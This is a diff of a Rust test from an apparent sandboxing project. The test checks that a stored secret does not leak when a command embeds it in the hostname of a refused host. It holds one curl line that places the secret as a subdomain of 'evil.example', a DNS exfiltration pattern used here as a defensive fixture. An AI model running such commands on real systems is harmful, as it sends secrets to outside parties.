@@ -247,7 +247,15 @@ async fn a_secret_in_the_name_of_a_refused_host_is_told_nowhere() {
     let street = Street::new().await;
     street.set(NetworkPolicy::AllowList, &[]).await;
     let (team, project) = (&street.hall.team, street.project.id);
-    team.put_project_secret(&street.hall.anna, project, "TOKEN", "Tok0123SecretValue", None).await.unwrap();
+    team.put_project_secret(
+        guildhall_team::By::in_person(&street.hall.anna),
+        project,
+        "TOKEN",
+        "Tok0123SecretValue",
+        None,
+    )
+    .await
+    .unwrap();
     let ask = "curl -s -o /dev/null http://tok0123secretvalue.evil.example/ http://plain.example/; true";
     let id = street.runs(&[ask]).await;
     street.printed(id).await;
